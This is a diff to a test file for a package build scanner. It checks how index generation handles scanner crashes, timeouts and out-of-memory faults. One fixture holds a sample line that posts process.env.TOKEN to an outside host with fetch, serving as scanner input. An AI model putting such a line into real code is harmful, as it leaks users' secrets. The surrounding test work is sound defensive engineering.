@@ -1,5 +1,6 @@
 /** What a build does to the scanner stays with that build: the programs `generate`, `gate` and `check` go on. */
-import { join } from 'node:path';
+import { readdirSync } from 'node:fs';
+import { dirname, join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import { GateFixture } from '../publish/gate-fixture.ts';
@@ -62,60 +63,94 @@ function withFile(id: string, path: string, text: string): Files {
   return build(id, '1.0.0', {}, { [path]: text });
 }
 
+/** A build of this length is examined in a process of its own. */
+const LONG = '# a comment of some length\n'.repeat(40_000);
+
+const REASON = 'error src/a.py: The build was not scanned: the scanner';
+
 describe('generate', { timeout: 180_000 }, () => {
+  const withFaults = (faults: Readonly<Record<string, string>>): GitFixture => {
+    const git = new GitFixture();
+    const builds = Object.entries(faults).map(([id, text]) =>
+      withFile(id, 'src/a.py', `import os\n${text}\n`),
+    );
+    git.commit(
+      Object.assign({}, build('a/before', '1.0.0'), ...builds, build('c/after', '1.0.0')) as Files,
+    );
+    return git;
+  };
+  const argsFor = (git: GitFixture, out: string, threads: string): string[] => {
+    const place = ['--repo', git.folder, '--out', out, '--no-site', '--no-client'];
+    return [...place, '--threads', threads];
+  };
+
   it.each([['1'], ['2']])(
-    'publishes every build where scans end their process, with %s processes',
+    'publishes every build where scans end their process, with %s threads',
     async (threads) => {
-      const git = new GitFixture();
-      git.commit({
-        ...build('a/before', '1.0.0'),
-        ...withFile('b/crash', 'src/a.py', 'import os\n# FAULT_CRASH\n'),
-        ...withFile('b/time', 'src/a.py', 'import os\n# FAULT_TIME\n'),
-        ...build('c/after', '1.0.0'),
+      const git = withFaults({
+        'b/crash': `# FAULT_CRASH\n${LONG}`,
+        'b/long': `# FAULT_TIME\n${LONG}`,
+        'b/memory': `# FAULT_MEMORY\n${LONG}`,
+        'b/plain': '# FAULT_TIME',
       });
       const out = join(temporaryFolder(), 'index');
-      const args = [
-        '--repo',
-        git.folder,
-        '--out',
-        out,
-        '--no-site',
-        '--no-client',
-        '--threads',
-        threads,
-      ];
-      const run = await program(GENERATE, [...args, '--scan-seconds', '3']);
+      const args = argsFor(git, out, threads);
+      const run = await program(GENERATE, [...args, '--scan-seconds', '10']);
       expect([run.status, run.stderr]).toEqual([0, '']);
-      expect(run.stdout).toMatch(/^builds: 4, versions: 4;/);
-      expect(['a/before', 'c/after'].map((id) => endOf(readRecord(out, id)))).toEqual([[], []]);
-      const reason = 'error src/a.py: The build was not scanned: the scanner';
-      expect(endOf(readRecord(out, 'b/crash'))).toEqual([
-        `${reason} crashed (SIGSEGV), also without its native parser`,
+      expect(run.stdout).toMatch(/^builds: 6, versions: 6;/);
+      const found = (id: string): unknown[] => {
+        const record = readRecord(out, id);
+        return [record.checks.risk, ...endOf(record)];
+      };
+      expect([found('a/before'), found('c/after')]).toEqual([['ok'], ['ok']]);
+      expect(found('b/crash')).toEqual([
+        'danger',
+        `${REASON} crashed (SIGSEGV), also without its native parser`,
       ]);
-      expect(endOf(readRecord(out, 'b/time'))).toEqual([
-        `${reason} needed more than 3 s of processor time`,
-      ]);
-      expect(
-        ['a/before', 'b/crash', 'b/time'].map((id) => readRecord(out, id).checks.risk),
-      ).toEqual(['ok', 'danger', 'danger']);
+      const time = ['danger', `${REASON} needed more than 10 s of processor time`];
+      expect([found('b/long'), found('b/plain')]).toEqual([time, time]);
+      expect(found('b/memory')).toEqual(['danger', `${REASON} had not enough memory`]);
+      expect(readdirSync(dirname(out))).not.toContain('.index.examining');
       const next = await program(GENERATE, args);
       expect([next.status, next.stdout]).toEqual([0, expect.stringContaining('0 written')]);
     },
   );
 
+  it.each([['1'], ['2']])(
+    'publishes every build in the run after one that a short build ended, with %s threads',
+    async (threads) => {
+      const git = withFaults({ 'b/crash': '# FAULT_CRASH' });
+      const out = join(temporaryFolder(), 'index');
+      const args = argsFor(git, out, threads);
+      const ended = await program(GENERATE, args);
+      expect(ended.status).not.toBe(0);
+      for (const more of [[], ['--full']]) {
+        const run = await program(GENERATE, [...args, ...more]);
+        expect([run.status, run.stderr]).toEqual([0, '']);
+        expect(run.stdout).toMatch(/^builds: 3, versions: 3;/);
+        expect(endOf(readRecord(out, 'b/crash'))).toEqual([
+          `${REASON} crashed (SIGSEGV), also without its native parser`,
+        ]);
+        expect(['a/before', 'c/after'].map((id) => endOf(readRecord(out, id)))).toEqual([[], []]);
+      }
+    },
+  );
+
   it('makes the same index where the native parser crashes', async () => {
     const git = new GitFixture();
-    const text = "const FAULT_NATIVE = 'x';\nfetch('http://a.io/', { body: process.env.TOKEN });\n";
+    const text = `const FAULT_NATIVE = 'x';\nfetch('http://a.io/', { body: process.env.TOKEN });\n// ${'x'.repeat(1_000_000)}\n`;
     git.commit({ ...withFile('a/x', 'src/a.ts', text), ...build('b/y', '1.0.0') });
     const folder = temporaryFolder();
-    const [sound, faulty] = [join(folder, 'sound'), join(folder, 'faulty')];
+    // In folders of their own: some documents name the folder.
+    const [sound, faulty] = ['sound', 'faulty'].map((name) => join(folder, name, 'index')) as [
+      string,
+      string,
+    ];
     const args = ['--repo', git.folder, '--no-site', '--no-client'];
     expect((await program(GENERATE, [...args, '--out', sound], false)).status).toBe(0);
     const run = await program(GENERATE, [...args, '--out', faulty]);
     expect([run.status, run.stderr]).toEqual([0, '']);
-    expect(readRecord(faulty, 'a/x').checks.findings.map(({ code }) => code)).not.toContain(
-      'scan-ended',
-    );
+    expect(endOf(readRecord(faulty, 'a/x'))).toEqual([]);
     expect(readTree(faulty)).toEqual(readTree(sound));
   });
 
